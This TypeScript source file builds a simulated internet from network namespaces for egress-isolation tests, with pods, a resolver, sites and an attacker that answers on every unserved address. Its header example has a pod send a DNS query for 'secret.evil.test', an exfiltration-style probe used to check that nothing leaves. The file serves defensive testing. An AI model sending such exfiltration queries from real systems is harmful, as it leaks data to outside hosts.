/**
 * A little internet on one machine, out of network namespaces: pods and hosts, a resolver, sites, an attacker who answers
 * on every other address and port, and a capture of what really left a pod.
 *
 *     test.skipIf(!internet.available)(`nothing leaves${internet.note}`, async () => {
 *       await using internet = await createInternet();
 *       const pod = await internet.pod();
 *       await internet.site("github.test", {
 *         ipv4: "198.51.100.10", ipv6: "2001:db8:1::10", ports: { 443: "https", 80: "http", 22: "ssh" },
 *       });
 *
 *       const curl = await pod.run(["curl", "-sS", "--cacert", pod.caFile, "https://github.test/x"]);
 *       expect(curl.stdout).toBe("github.test GET /x\n");
 *       expect(await internet.dns.questions()).toMatchObject([{ name: "github.test", type: "A" }, …]);
 *
 *       await internet.forget();                              // what came so far
 *       await pod.run(["dig", "+tcp", "@1.1.1.1", "secret.evil.test"]);
 *       expect(await internet.capture.packets({ from: pod })).toEqual([]);   // fails: the attacker answered
 *     });
 *
 * Whatever address or port no site serves is the attacker's, and answers there in the protocol it is spoken to in: HTTP, TLS
 * with a trusted certificate for any name, DNS over UDP, TCP, TLS and HTTPS, QUIC version negotiation, ping, else an echo.
 * So an attack that nobody stops succeeds. The addresses are in addresses.ts.
 *
 * Whoever is answered may answer too: a pod's kernel says "port unreachable" to a datagram whose socket is closed. So
 * count what was sent by protocol and port, or expect nothing at all.
 */
import { mkdirSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

import { CLUSTER_API, METADATA, RESOLVER, toAttachment, type Attachment } from "./addresses.ts";
import { createCertificateAuthority } from "./certificate-authority.ts";
import { attachContainer, containerAddresses, createBridge } from "./container.ts";
import { createNamePrefix } from "./namespace-name.ts";
import { createNetworkNamespace, type NetworkNamespace } from "./network-namespace.ts";
import { createPlace, type Place, type PlaceOptions } from "./place.ts";
import { toResolver, type Resolver } from "./resolver.ts";
import { sweepLeftOvers } from "./sweep.ts";
import { toWireTap, type WireTap } from "./wire-tap.ts";
import { startWorld, type WorldClient } from "./world-client.ts";
import { attach, connectWorld, serveAddresses } from "./world-network.ts";
import type { Listener, SiteService, Visit } from "./world/messages.ts";

export interface InternetOptions {
  /** Without one, a benchmark's traffic costs less. */
  readonly capture?: boolean;
}

export interface SiteOptions {
  readonly ipv4?: string;
  readonly ipv6?: string;
  readonly ports: Readonly<Record<number, SiteService | readonly SiteService[]>>;
  readonly ttl?: number;
  /** Further names of the same addresses. */
  readonly aliases?: readonly string[];
}

/** A pod or a host: it hangs on the world by a wire of its own. */
export interface Machine extends Place {
  readonly wire: string;
  readonly neighbour: { readonly ipv4: string; readonly ipv6: string };
  /** A container on a bridge of this machine, masqueraded outward. */
  container(options?: PlaceOptions): Promise<Place>;
}

export interface Internet extends AsyncDisposable {
  pod(options?: PlaceOptions): Promise<Machine>;
  /** The same with the addresses of a virtual machine. */
  host(options?: PlaceOptions): Promise<Machine>;
  /** Serves the ports and puts the name into the zone. */
  site(name: string, options: SiteOptions): Promise<void>;
  readonly dns: Resolver;
  readonly capture: WireTap;
  /** Who got through to a server, and what they said. */
  visits(filter?: Partial<Pick<Visit, "server" | "service" | "from">>): Promise<readonly Visit[]>;
  /** Lets go of questions, visits and packets so far. */
  forget(): Promise<void>;
  readonly caFile: string;
}

interface Foundation {
  readonly prefix: string;
  readonly folder: string;
  readonly caFile: string;
  readonly world: NetworkNamespace;
  readonly client: WorldClient;
  readonly built: AsyncDisposableStack;
}

export async function createInternet({ capture = true }: InternetOptions = {}): Promise<Internet> {
  await sweepLeftOvers();
  await using built = new AsyncDisposableStack();
  const prefix = createNamePrefix();
  const folder = join(tmpdir(), `${prefix}-files`);
  mkdirSync(folder);
  built.defer(() => rmSync(folder, { recursive: true, force: true }));
  const authority = createCertificateAuthority(folder);
  const world = await createNetworkNamespace(`${prefix}-world`);
  built.defer(async () => world.remove());
  const [caFile] = await Promise.all([authority, connectWorld(world)]);
  const client = built.use(await startWorld({ network: world.path, folder, capture }));
  await client.ask({ kind: "listen", listeners: STANDING_LISTENERS });
  return joinInternet({ prefix, folder, caFile, world, client, built: built.move() });
}

const STANDING_LISTENERS: readonly Listener[] = [
  ...bothOf("resolver", RESOLVER, { 53: "dns" }),
  ...bothOf("metadata", METADATA, { 80: "http" }),
  ...bothOf("cluster-api", CLUSTER_API, { 443: "https" }),
];

function joinInternet(foundation: Foundation): Internet {
  const { client, world, built } = foundation;
  let machines = 0;
  const addMachine = async (kind: "pod" | "host", options: PlaceOptions = {}) => {
    machines += 1;
    return createMachine(foundation, toAttachment(kind, machines), { kind, options });
  };
  return {
    pod: async (options) => addMachine("pod", options),
    host: async (options) => addMachine("host", options),
    async site(name, options) {
      const { ipv4, ipv6, ports, ttl = 300, aliases = [] } = options;
      const addresses = [ipv4, ipv6].filter((it) => it !== undefined);
      await serveAddresses(world, addresses);
      await client.ask({ kind: "listen", listeners: bothOf(name, { ipv4, ipv6 }, ports) });
      const records = [name, ...aliases].flatMap((owner) =>
        addresses.map(
          (data) => ({ name: owner, ttl, type: data.includes(":") ? "AAAA" : "A", data }) as const,
        ),
      );
      await client.ask({ kind: "records", records });
    },
    dns: toResolver(client),
    capture: toWireTap(client),
    visits: async (filter = {}) =>
      (await client.ask({ kind: "visits" })).filter(
        (it) =>
          (filter.server ?? it.server) === it.server &&
          (filter.service ?? it.service) === it.service &&
          (filter.from ?? it.from) === it.from,
      ),
    forget: async () => client.ask({ kind: "forget" }),
    caFile: foundation.caFile,
    [Symbol.asyncDispose]: async () => built.disposeAsync(),
  };
}

async function createMachine(
  foundation: Foundation,
  attachment: Attachment,
  { kind, options }: { readonly kind: "pod" | "host"; readonly options: PlaceOptions },
): Promise<Machine> {
  const { prefix, folder, caFile, world, client, built } = foundation;
  const { device, own, neighbour } = attachment;
  const name = `${kind}-${attachment.index}`;
  const common = { caFile, defaultResolver: [RESOLVER.ipv4, RESOLVER.ipv6] };
  const place = await createPlace({
    ...common,
    name,
    options,
    addresses: own,
    namespaceName: `${prefix}-${name}`,
    folder: join(folder, name),
    connect: async (namespace) => attach(world, namespace, attachment),
  });
  built.use(place);
  const listeners = bothOf("neighbour", neighbour, { 80: "http", 7: ["tcp-echo", "udp-echo"] });
  await client.ask({ kind: "listen", listeners });
  let containers = 0;
  let bridge: Promise<void> | undefined;
  return {
    ...place,
    wire: device,
    neighbour,
    async container(containerOptions = {}) {
      containers += 1;
      const number = containers;
      const containerName = `${name}-container-${number}`;
      bridge ??= createBridge(place.namespace);
      await bridge;
      const container = await createPlace({
        ...common,
        name: containerName,
        options: containerOptions,
        addresses: containerAddresses(number),
        namespaceName: `${prefix}-${containerName}`,
        folder: join(folder, containerName),
        connect: async (namespace) => attachContainer(place.namespace, namespace, number),
      });
      return built.use(container);
    },
  };
}

function bothOf(
  name: string,
  { ipv4, ipv6 }: { readonly ipv4?: string | undefined; readonly ipv6?: string | undefined },
  ports: SiteOptions["ports"],
): Listener[] {
  const addresses = [ipv4, ipv6].filter((it) => it !== undefined);
  return Object.entries(ports).flatMap(([port, services]) =>
    [services]
      .flat()
      .flatMap((service) => addresses.map((ip) => ({ name, ip, port: Number(port), service }))),
  );
}
